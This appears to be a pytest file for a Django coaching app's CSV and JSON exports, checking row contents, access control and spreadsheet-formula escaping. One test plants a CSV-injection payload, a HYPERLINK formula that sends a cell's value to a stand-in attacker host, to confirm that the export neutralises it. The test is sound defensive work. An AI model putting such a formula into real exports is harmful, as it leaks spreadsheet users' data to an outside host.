"""Exports: what the coach downloads matches what was logged, in CSV and JSON."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta

from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from runstrong.exports.csv_cells import csv_cell, csv_cell_read
from runstrong.web.coaching.models import BenchmarkResult, SessionLog, SetLog
from runstrong.web.coaching.session_log import (
    PainEntry,
    SetEntry,
    session_log_done,
    session_log_missed,
)
from tests.personas import World, login


def log_some(world: World) -> None:
    sessions = list(world.athlete_a.sessions.order_by("date")[:2])
    crawl = sessions[0].items.get(exercise="crouching-crawl")
    entries = [SetEntry(crawl.pk, n, "", 10 + n, None) for n in (1, 2, 3)]
    session_log_done(
        session=sessions[0],
        sets=entries,
        reps_in_reserve=2,
        pains=[
            PainEntry(2, "calf", "left", "crouching-crawl"),
            PainEntry(5, "lower-back", ""),  # elsewhere: the coach's flag, not a set's pain
        ],
        notes="",
    )
    session_log_missed(session=sessions[1], reason="Exam week")


def download(client: Client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200
    assert response.streaming
    return b"".join(response.streaming_content).decode()  # type: ignore[arg-type]


def test_squad_logs_csv_round_trips_to_the_logged_sets(client: Client, world: World) -> None:
    log_some(world)
    login(client, world.coach_x)
    rows = list(csv.DictReader(io.StringIO(download(client, "/coach/export/logs.csv"))))
    done = [row for row in rows if row["status"] == "done" and row["set_number"]]
    logged = SetLog.objects.order_by("set_number")
    assert [float(row["done"]) for row in done] == [entry.done for entry in logged]
    assert {row["unit"] for row in done} == {"m"}
    assert done[0]["athlete"] == world.athlete_a.name
    assert {(row["pain"], row["pain_where"]) for row in done} == {("2", "left calf")}
    # The session's other exercises, with no set typed in: one row each, set columns blank.
    first = world.athlete_a.sessions.order_by("date")[0]
    skipped = [row for row in rows if row["status"] == "done" and not row["set_number"]]
    assert [row["exercise"] for row in skipped] == list(
        first.items.exclude(exercise="crouching-crawl")
        .order_by("slot")
        .values_list("exercise", flat=True)
    )
    assert {(row["done"], row["side"], row["load_kg"], row["pain"]) for row in skipped} == {
        ("", "", "", "0")
    }
    missed = [row for row in rows if row["status"] == "missed"]
    assert [row["missed_reason"] for row in missed] == ["Exam week"]


def test_json_export_has_the_same_rows_as_csv(client: Client, world: World) -> None:
    log_some(world)
    login(client, world.coach_x)
    as_json = json.loads(download(client, "/coach/export/logs.json"))
    as_csv = list(csv.DictReader(io.StringIO(download(client, "/coach/export/logs.csv"))))
    assert as_json["schema"] == "runstrong.logs/1"
    assert as_json["columns"] == list(as_csv[0])
    rows = [dict(zip(as_json["columns"], row, strict=True)) for row in as_json["rows"]]
    items = world.athlete_a.sessions.order_by("date")[0].items.count()
    assert len(rows) == len(as_csv) == 3 + (items - 1) + 1  # sets, unlogged items, missed
    assert [str(row["done"] or "") for row in rows] == [row["done"] for row in as_csv]


def test_results_export_and_group_filter(client: Client, world: World) -> None:
    BenchmarkResult.objects.create(
        athlete=world.athlete_b, movement="heel-raise", date=world.today, left=25, right=24
    )
    login(client, world.coach_x)
    everyone = list(csv.DictReader(io.StringIO(download(client, "/coach/export/results.csv"))))
    five_k = list(
        csv.DictReader(io.StringIO(download(client, "/coach/export/results.csv?group=5k")))
    )
    assert [(row["athlete"], row["left"]) for row in everyone] == [(world.athlete_b.name, "25.0")]
    assert five_k == []


def test_an_athlete_export_is_for_their_coach_only(client: Client, world: World) -> None:
    log_some(world)
    url = f"/coach/athletes/{world.athlete_a.pk}/export/logs.csv"
    login(client, world.coach_y)
    assert client.get(url).status_code == 404
    login(client, world.coach_x)
    assert world.athlete_a.name in download(client, url)
    assert client.get(f"/coach/athletes/{world.athlete_a.pk}/export/logs.xml").status_code == 404


def test_a_log_from_before_pain_per_exercise_exports_its_one_score_on_every_set(
    client: Client, world: World
) -> None:
    """Old logs keep reading as they were logged: one score for the whole session."""
    log_some(world)
    SessionLog.objects.filter(status="done").update(
        pain_by_exercise=False, pain=4, pain_where="sore knee"
    )
    login(client, world.coach_x)
    rows = list(csv.DictReader(io.StringIO(download(client, "/coach/export/logs.csv"))))
    done = [row for row in rows if row["status"] == "done"]
    assert {(row["pain"], row["pain_where"]) for row in done} == {("4", "sore knee")}


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted_as_text(
    client: Client, world: World
) -> None:
    """Athlete text starting with = + - @ tab or CR opens as text, not as a formula."""
    world.athlete_a.name = "@SUM(1+1)"
    world.athlete_a.save(update_fields=["name"])
    log_some(world)
    SessionLog.objects.filter(status="missed").update(
        missed_reason='=HYPERLINK("https://evil.example/?"&A1,"open")'
    )
    BenchmarkResult.objects.create(
        athlete=world.athlete_a, date=world.today, movement="heel-raise", value=20
    )
    login(client, world.coach_x)
    rows = list(csv.DictReader(io.StringIO(download(client, "/coach/export/logs.csv"))))
    assert {row["athlete"] for row in rows if row["athlete_id"] == str(world.athlete_a.pk)} == {
        "'@SUM(1+1)"
    }
    (missed,) = [row for row in rows if row["status"] == "missed"]
    assert missed["missed_reason"] == '\'=HYPERLINK("https://evil.example/?"&A1,"open")'
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in rows
        for cell in row.values()
    )
    results = list(csv.DictReader(io.StringIO(download(client, "/coach/export/results.csv"))))
    assert results[0]["athlete"] == "'@SUM(1+1)"
    assert results[0]["value"] == "20.0" or float(results[0]["value"]) == 20, "numbers stay numbers"


@given(st.text())
def test_every_text_survives_the_formula_quote_and_none_starts_a_formula(text: str) -> None:
    written = csv_cell(text)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert csv_cell_read(written) == text


def test_a_season_exports_every_set_in_date_then_athlete_order(
    client: Client, world: World
) -> None:
    """The export reads a week at a time (the download starts sooner): across the weeks the
    rows are still every set, by date, then athlete."""
    logged = []
    for athlete in (world.athlete_b, world.athlete_a):
        for session in athlete.sessions.order_by("date")[:6]:
            item = session.items.order_by("slot").first()
            assert item is not None
            SetLog.objects.create(
                item=item, set_number=1, side="left" if item.per_side else "", done=7
            )
            logged.append((session.date.isoformat(), athlete.pk))
    days = sorted(day for day, _ in logged)
    assert date.fromisoformat(days[-1]) - date.fromisoformat(days[0]) > timedelta(days=7)
    login(client, world.coach_x)
    rows = list(csv.DictReader(io.StringIO(download(client, "/coach/export/logs.csv"))))
    assert [(row["date"], int(row["athlete_id"])) for row in rows] == sorted(logged)
